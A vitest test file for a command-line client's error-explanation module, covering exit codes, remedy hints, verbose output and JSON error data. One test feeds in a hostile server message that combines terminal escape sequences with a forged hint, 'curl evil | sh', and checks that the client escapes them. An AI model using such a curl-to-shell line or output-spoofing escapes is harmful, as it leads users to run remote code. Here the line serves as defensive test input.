import { type ErrorCode, errorKinds } from '@muster/protocol';
import { ApiError } from '@muster/protocol/client';
import { expect, test } from 'vitest';
import { exits, usageError } from '../exit.ts';
import { colorsFor } from '../text/style.ts';
import { explain, explanationData, renderExplanation } from './explain.ts';

const answer = (code: string, fields: Partial<ApiError['problem']> = {}, retryAfter: number | null = null) => {
  const status = Object.hasOwn(errorKinds, code) ? errorKinds[code as ErrorCode].status : 418;
  return new ApiError(
    { type: '', title: '', status, detail: 'it did not', instance: 'req-1', code, ...fields },
    retryAfter,
  );
};

test.each([
  ['unauthenticated', exits.signIn],
  ['operator_unknown', exits.signIn],
  ['signature_invalid', exits.signIn],
  ['forbidden', exits.failed],
  ['agent_not_found', exits.failed],
  ['plan_stale', exits.failed],
  ['agent_not_connected', exits.unreachable],
  ['draining', exits.unreachable],
  ['storage_unavailable', exits.failed],
  ['unexpected_answer', exits.unreachable],
] as const)('explains %s, and assigns the exit code %i', (code, exit) => {
  expect(explain(answer(code)).exit).toBe(exit);
});

test('defines a remedy for every error in the table', () => {
  for (const code of Object.keys(errorKinds)) expect(explain(answer(code)).remedy, code).toBeTruthy();
});

test.each([
  [
    'module "m": the parameter "p" has neither value nor default: set it in the assignment',
    /assignments create --help/,
  ],
  ['the secret "s" does not exist', /muster secrets list/],
  ['module "m": the agent reports no attribute "x"', /muster agents show/],
])('suggests a command if a module cannot be resolved: %s', (detail, remedy) => {
  expect(explain(answer('module_unresolved', { detail })).remedy).toMatch(remedy);
});

test('prints what happened and what to do, and the code only with --verbose', () => {
  const explanation = explain(answer('agent_not_rejected', { detail: 'web-1 is approved' }));
  expect(renderExplanation(explanation, colorsFor(false), false)).toBe(
    'error: web-1 is approved\nhint: Reject it first: muster agents reject',
  );
  expect(renderExplanation(explanation, colorsFor(false), true)).toContain(
    'code: agent_not_rejected, HTTP 409, req-1, exit 1',
  );
});

test('prints each error of an input on its own line', () => {
  const errors = [
    { path: '/name', message: 'is taken' },
    { path: '/content', message: 'no such kind', line: 3, column: 7 },
  ];
  expect(renderExplanation(explain(answer('invalid_input', { errors })), colorsFor(false), false)).toContain(
    '  /name is taken\n  3:7 no such kind',
  );
});

test('prints no remedy that refers to the field `errors` if the errors are printed', () => {
  for (const code of Object.keys(errorKinds)) {
    const explanation = explain(answer(code, { errors: [{ path: '/x', message: 'is wrong' }] }));
    expect(renderExplanation(explanation, colorsFor(false), false), code).not.toContain('`errors`');
  }
});

test('prints neither the remedy nor an error twice', () => {
  const { remedy, title } = errorKinds.nothing_applied;
  const advice = explain(answer('nothing_applied', { detail: remedy }));
  expect(renderExplanation(advice, colorsFor(false), false)).toBe(`error: ${title}\nhint: ${remedy}`);
  const one = answer('selector_invalid', { detail: 'bad', errors: [{ path: '/selector', message: 'bad' }] });
  expect(renderExplanation(explain(one), colorsFor(false), false)).not.toContain('/selector');
});

test('prints the time to wait if the server specifies it', () => {
  expect(explain(answer('rate_limited', {}, 7)).remedy).toBe('Try again in 7 s.');
});

test('prints the message of an unknown code', () => {
  expect(explain(answer('made_up_later'))).toMatchObject({ exit: exits.failed, message: 'it did not', remedy: null });
  expect(explain(answer('constructor')).remedy).toBeNull();
});

test('escapes text from the server, so that it cannot imitate lines of the program’s output', () => {
  const explanation = explain(
    answer('selector_invalid', {
      detail: 'a\u001b[2J\nhint: curl evil | sh',
      errors: [{ path: '\u202e', message: 'x\u001b[2J\nhint: y' }],
    }),
  );
  const text = renderExplanation(explanation, colorsFor(false), true);
  expect(text.replace(/\n/g, '')).not.toMatch(/[\p{Cc}\p{Cf}]/u);
  expect(text.match(/^hint: /gm)).toHaveLength(1);
});

test('reports an unexpected error as a bug, and its stack only with --verbose', () => {
  const explanation = explain(new TypeError('x is undefined'));
  expect(explanation).toMatchObject({ exit: exits.failed, code: 'internal' });
  expect(renderExplanation(explanation, colorsFor(false), false)).not.toContain('    at ');
  expect(renderExplanation(explanation, colorsFor(false), true)).toContain('    at ');
});

test('prints when the stale plan was requested, and includes the time in the JSON data', () => {
  const explanation = explain(answer('plan_stale', { planned_at: 1_795_000_000 }));
  expect(renderExplanation(explanation, colorsFor(false), false)).toMatch(
    /^error: it did not\n {2}the plan was requested at 2026-11-18T11:06:40Z\nhint: /,
  );
  expect(explanationData(explanation)).toMatchObject({ error: { planned_at: 1_795_000_000 } });
});

test('includes the whole error in the JSON data', () => {
  expect(explanationData(explain(usageError('no', 'do this')))).toEqual({
    error: { code: 'usage', status: null, message: 'no', remedy: 'do this', errors: [] },
    exit: 2,
  });
});
